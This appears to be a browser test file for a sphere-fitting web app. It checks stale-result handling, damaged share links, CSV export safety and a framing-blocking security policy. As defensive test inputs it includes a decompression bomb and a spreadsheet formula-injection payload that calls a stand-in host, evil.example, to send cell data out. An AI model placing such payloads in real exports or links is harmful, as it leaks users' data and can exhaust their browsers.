// Trust: the page never hands out or shows an old result as current, says when a fit has no
// uncertainty, refuses damaged or oversized share links without substituting other data, keeps
// formulas out of CSV, shows the parser's notes, says which dropped file was used, and is served
// with a Content-Security-Policy header that forbids framing.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { deflateRawSync, inflateRawSync } from 'node:zlib';
import { loadSphereFit } from '../../web/src/lib/spherefit.js';
import { startApp, fitted, fitCount, shownSphere, problemHooks } from './harness.mjs';
import { typeData, sampleText } from './helpers.mjs';

let app;
const sf = await loadSphereFit();
const sample = sampleText;
const RESULT_EXPORTS = ['copy-result', 'export-json', 'export-csv', 'export-table', 'export-png'];

before(async () => { app = await startApp(); });
after(async () => { await app?.close(); });
problemHooks(() => app);

const linkPayload = (link) => JSON.parse(inflateRawSync(Buffer.from(link.split('#data=')[1], 'base64url')).toString());
const linkOf = (payload) => `#data=${deflateRawSync(JSON.stringify(payload)).toString('base64url')}`;

test('an input with an error: no export hands out the old result, and every view says it is stale', async () => {
  const page = await app.open();
  for (const id of RESULT_EXPORTS) assert.equal(await page.getByTestId(id).isEnabled(), true, id);
  for (const id of ['viewer-stale', 'plot-stale', 'table-stale', 'results-stale']) assert.equal(await page.getByTestId(id).isVisible(), false, id);

  await page.getByTestId('share').click();
  await page.getByTestId('share-row').waitFor({ state: 'visible' });
  const bad = 'x,y,z,r\n1,2,3,4\n1,2,4,oops\n';
  await typeData(page, bad);
  assert.equal(await page.getByTestId('share-row').isVisible(), false, 'the share box does not keep the old link');
  for (const id of RESULT_EXPORTS) assert.equal(await page.getByTestId(id).isDisabled(), true, `${id} is off while the input has an error`);
  assert.match(await page.getByTestId('export-note').innerText(), /last good one, for earlier data/);
  for (const id of ['viewer-stale', 'plot-stale', 'table-stale', 'results-stale']) {
    assert.match(await page.getByTestId(id).innerText(), /Stale/, id);
  }
  assert.equal(await page.getByTestId('viewer-panel').getAttribute('data-stale'), 'error');

  // A click that slips through (a script, an old browser) still hands out nothing.
  await page.evaluate(() => navigator.clipboard.writeText('before'));
  await page.getByTestId('copy-result').evaluate((b) => { b.disabled = false; b.click(); });
  await page.getByTestId('toast').filter({ hasText: 'Not exported' }).waitFor();
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), 'before');

  // Share carries the input as it is now, and says it has an error.
  await page.getByTestId('share').click();
  await page.getByTestId('share-note').filter({ hasText: 'error on line 3' }).waitFor();
  assert.equal(linkPayload(await page.getByTestId('share-link').inputValue()).text, bad);

  // While a fit is on its way, exports wait too.
  await page.getByTestId('data-input').fill(sample('calibration-ball-cmm'));
  assert.equal(await page.getByTestId('export-json').isDisabled(), true, 'pending fit');
  await page.waitForFunction(() => document.querySelector('[data-testid=fit-status]').dataset.state === 'done');
  for (const id of RESULT_EXPORTS) assert.equal(await page.getByTestId(id).isEnabled(), true, id);
  for (const id of ['viewer-stale', 'plot-stale', 'table-stale', 'results-stale']) assert.equal(await page.getByTestId(id).isVisible(), false, id);
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId('export-json').click()]);
  const json = JSON.parse(readFileSync(await download.path(), 'utf8'));
  assert.equal(json.sphere.radius, sf.fitText(sample('calibration-ball-cmm')).radius);
  await page.close();
});

test('an exactly determined fit says so where the ± would be, with no fake zeros', async () => {
  const page = await app.open();
  await typeData(page, 'x y z r\n0 0 0 5\n0 0 3 4\n');
  const expected = sf.fitText('x y z r\n0 0 0 5\n0 0 3 4\n');
  assert.equal(expected.stdErr, null);
  for (const id of ['result-center-x', 'result-center-y', 'result-center-z', 'result-radius', 'result-diameter']) {
    const text = await page.getByTestId(id).innerText();
    assert.match(text, /exactly determined: no uncertainty/, id);
    assert.doesNotMatch(text, /±/, id);
  }
  assert.match(await page.getByTestId('result-uncertainty-note').innerText(), /No uncertainty can be estimated/);
  assert.match(await page.getByTestId('result-warnings').innerText(), /Exactly determined/);
  await page.getByTestId('copy-result').click();
  await page.getByTestId('toast').filter({ hasText: 'copied' }).waitFor();
  const clip = await page.evaluate(() => navigator.clipboard.readText());
  assert.match(clip, /radius {3}= 5\.0 mm \(exactly determined: no uncertainty\)/);
  assert.doesNotMatch(clip, /±/);
  await page.close();
});

test('a damaged share link is a lasting error; nothing is substituted and the fragment goes', async () => {
  const good = linkOf({ v: 1, text: sample('eyeball-oblique-mri'), options: { units: 'mm' } });
  const bomb = `#data=${deflateRawSync(Buffer.alloc(300 * 1024 * 1024, 0x31), { level: 9 }).toString('base64url')}`;
  const cases = {
    truncated: [good.slice(0, good.length - 9), /cut short|not a complete compressed stream/],
    'bad base64': ['#data=AbC!dEf', /cannot be in a share link/],
    'not deflate': [`#data=${Buffer.from('plain words, not compressed').toString('base64url')}`, /compressed stream/],
    'not JSON': [`#data=${deflateRawSync('{"v":1,"text":"1 2').toString('base64url')}`, /not in the share format/],
    'decompression bomb': [bomb, /inflates to more than 32 MB/],
    // Chromium itself opens URLs up to 2 MiB; the page refuses from 2 000 000 characters.
    'too long': [`#data=${'A'.repeat(2_050_000)}`, /more than browsers keep/],
  };
  for (const [name, [hash, why]] of Object.entries(cases)) {
    const page = await app.open(hash, { waitForFit: false });
    const error = page.getByTestId('result-error');
    await error.waitFor({ state: 'visible', timeout: 15000 });
    const text = await error.innerText();
    assert.match(text, /This link is damaged/, name);
    assert.match(text, why, name);
    assert.equal(await error.getAttribute('data-kind'), 'link', name);
    assert.equal(await error.getAttribute('data-code'), null, `${name}: no invented error code`);
    assert.equal(await page.evaluate(() => location.hash), '', `${name}: the bad fragment leaves the address bar`);
    await page.waitForTimeout(600);
    assert.equal(await page.getByTestId('data-input').inputValue(), '', `${name}: no other data in its place`);
    assert.equal(await page.getByTestId('sample-select').inputValue(), '', name);
    assert.equal(await fitCount(page), 0, `${name}: nothing was fitted`);
    assert.equal(await page.getByTestId('results').isVisible(), false, name);
    // The error stays until the user gives data.
    await page.waitForTimeout(5500);
    assert.equal(await error.isVisible(), true, `${name}: the error lasts`);
    await page.close();
  }
});

test('editing after opening a link clears the fragment, so a reload does not restore old data', async () => {
  const text = sample('calibration-ball-cmm');
  const page = await app.open(linkOf({ v: 1, text, options: { robust: true, units: 'µm' } }));
  assert.equal(await page.getByTestId('data-input').inputValue(), text);
  assert.match(await page.getByTestId('input-source').innerText(), /share link/);
  assert.match(await page.evaluate(() => location.hash), /^#data=/, 'opening a link keeps it (a reload shows the same)');
  await typeData(page, `${text}150 210 40 12.5\n`);
  assert.equal(await page.evaluate(() => location.hash), '');
  await page.reload();
  await fitted(page, 1);
  assert.equal(await page.getByTestId('sample-select').inputValue(), 'femoral-head-ct');

  // An options-only edit (units) clears it too.
  await page.goto(`${app.url}${linkOf({ v: 1, text, options: {} })}`);
  await fitted(page, 1);
  await page.getByTestId('option-units').fill('in');
  assert.equal(await page.evaluate(() => location.hash), '');
  await page.close();
});

test('a share link too long for browsers is refused when made, with a clear message', async () => {
  const page = await app.open();
  // 3 MB that does not compress: random base64 characters.
  const random = await page.evaluate(() => {
    const bytes = crypto.getRandomValues(new Uint8Array(65536));
    let chunk = '';
    for (const b of bytes) chunk += 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/'[b & 63];
    let out = '';
    for (let k = 0; k < 48; ++k) out += `${[...chunk].reverse().join('').slice(k)}${chunk.slice(0, k)}\n`;
    return out;
  });
  assert.ok(random.length > 3e6);
  const n = await fitCount(page);
  await page.getByTestId('data-input').evaluate((t, value) => {
    const dt = new DataTransfer();
    dt.setData('text/plain', value);
    t.dispatchEvent(new ClipboardEvent('paste', { clipboardData: dt, bubbles: true, cancelable: true }));
  }, random);
  await fitted(page, n + 1);
  await page.getByTestId('share').click();
  await page.getByTestId('share-note').filter({ hasText: 'No link' }).waitFor();
  assert.match(await page.getByTestId('share-note').innerText(), /browsers keep links of about 2 MB/);
  assert.equal(await page.getByTestId('share-link').isVisible(), false);
  await page.close();
});

test('formula injection: CSV text cells are neutralised; a link cannot set a label longer than the field', async () => {
  const page = await app.open();
  assert.equal(Number(await page.getByTestId('option-units').getAttribute('maxlength')), sf.vocabulary.maxUnitsLength);
  await page.getByTestId('option-units').fill('=1+2');
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId('export-csv').click()]);
  const csv = readFileSync(await download.path(), 'utf8');
  assert.match(csv, /^center_x,[-0-9.e]+,[0-9.e-]+,'=1\+2$/m);
  assert.doesNotMatch(csv, /,=/);
  await page.close();

  const evil = '=HYPERLINK("http://evil.example/?"&A1,"Click for the full report")';
  const linked = await app.open(linkOf({ v: 1, text: sample('bead-cap-ct'), options: { units: evil } }));
  const units = await linked.getByTestId('option-units').inputValue();
  assert.equal([...units].length, sf.vocabulary.maxUnitsLength);
  assert.ok(evil.startsWith(units));
  assert.match(await linked.getByTestId('toast').innerText(), /longer than 12 characters/);
  const [table] = await Promise.all([linked.waitForEvent('download'), linked.getByTestId('export-csv').click()]);
  const text = readFileSync(await table.path(), 'utf8');
  for (const line of text.trim().split('\n')) for (const cell of line.split(',')) assert.doesNotMatch(cell.replace(/^"/, ''), /^[=+@]/, line);
  assert.match(await linked.getByTestId('result-rms').innerText(), /=HYPERLINK\("$/);
  await linked.close();
});

test('a parse failure shows the parser\'s notes', async () => {
  // The worker answers every fit with a failure carrying notes, as the core does for an
  // unrecognised header; the page must show them with the error. (It is the real worker with its
  // answers replaced: the page waits for the core's vocabulary, which the worker sends on loading.)
  await app.context.route('**/src/app/solver.worker*.js', async (route) => route.fulfill({
    contentType: 'text/javascript',
    body: `${await (await route.fetch()).text()}
self.onmessage = ({ data }) => self.postMessage({ id: data.id, type: 'result', result: { ok: false, error: {
      code: 'MissingColumn', message: "Line 1, column 1: the header has no r column.", line: 1, column: 1,
      notes: ["column 'Durchmesser [mm]' is not recognised", "column '<b>x</b>' is not recognised"] } } });`,
  }));
  try {
    const page = await app.open('', { waitForFit: false });
    const notes = page.getByTestId('result-error-notes');
    await notes.waitFor({ state: 'visible' });
    assert.deepEqual(await notes.locator('li').allInnerTexts(), ["column 'Durchmesser [mm]' is not recognised", "column '<b>x</b>' is not recognised"]);
    assert.equal(await page.getByTestId('result-error').getAttribute('data-code'), 'MissingColumn');
    await page.close();
  } finally {
    await app.context.unroute('**/src/app/solver.worker*.js');
  }
});

test('a header in other units than the label says so; setting the label to them answers it', async () => {
  const page = await app.open();
  // A 1-inch ball, its lengths in inches as the header says; the label is the default mm.
  const rows = [[0.5, 0, 0], [-0.5, 0, 0], [0, 0.5, 0], [0, -0.5, 0], [0, 0, 0.5], [0, 0, -0.5], [0.3, 0.4, 0]];
  await typeData(page, `X (in),Y (in),Z (in)\n${rows.map((r) => r.join(',')).join('\n')}\n`);
  const codes = () => page.locator('[data-testid=result-warnings] li').evaluateAll((items) => items.map((li) => li.dataset.code));
  assert.ok((await codes()).includes('UnitsDiffer'));
  assert.match(await page.locator('[data-testid=result-warnings] li[data-code=UnitsDiffer]').innerText(), /header gives lengths in in, but the units label is mm/);
  const n = await fitCount(page);
  await page.getByTestId('option-units').fill('in');
  await fitted(page, n + 1);
  assert.ok(!(await codes()).includes('UnitsDiffer'), 'no message keeps the old label');
  assert.match(await page.getByTestId('result-radius').innerText(), / in$/);
  await page.close();
});

test('dropping several files says which one was used', async () => {
  const page = await app.open();
  const n = await fitCount(page);
  const transfer = await page.evaluateHandle(([a, b]) => {
    const dt = new DataTransfer();
    dt.items.add(new File([a], 'ball.tsv', { type: 'text/plain' }));
    dt.items.add(new File([b], 'bead.txt', { type: 'text/plain' }));
    dt.items.add(new File(['junk'], 'notes.txt', { type: 'text/plain' }));
    return dt;
  }, [sample('calibration-ball-cmm'), sample('bead-cap-ct')]);
  await page.dispatchEvent('main', 'drop', { dataTransfer: transfer });
  await fitted(page, n + 1);
  assert.equal(await page.getByTestId('input-source').innerText(), 'Dropped 3 files: using ball.tsv; not opened: bead.txt, notes.txt (one file is fitted at a time).');
  const shown = await shownSphere(page);
  assert.equal(shown.radius, sf.fitText(sample('calibration-ball-cmm')).radius);
  await page.close();
});

test('the server sends the Content-Security-Policy as a header, and the page cannot be framed', async () => {
  const response = await fetch(app.url);
  const csp = response.headers.get('content-security-policy');
  assert.match(csp, /frame-ancestors 'none'/);
  assert.match(csp, /default-src 'self'/);
  const headers = readFileSync(new URL('../../dist/_headers', import.meta.url), 'utf8');
  assert.ok(headers.includes(`Content-Security-Policy: ${csp}`));
  const html = await response.text();
  assert.ok(csp.startsWith(/http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html)[1]), 'header and <meta> agree');

  app.expectedConsole.push(/frame-ancestors|Refused to (display|frame)/);
  const page = await app.context.newPage();
  await page.setContent(`<iframe src="${app.url}"></iframe>`);
  await page.waitForTimeout(1500);
  const framed = page.frames().find((f) => f !== page.mainFrame());
  const loaded = await framed.evaluate(() => Boolean(document.querySelector('[data-testid=data-input]'))).catch(() => false);
  assert.equal(loaded, false, 'the app does not load inside a frame of another origin');
  await page.close();
});
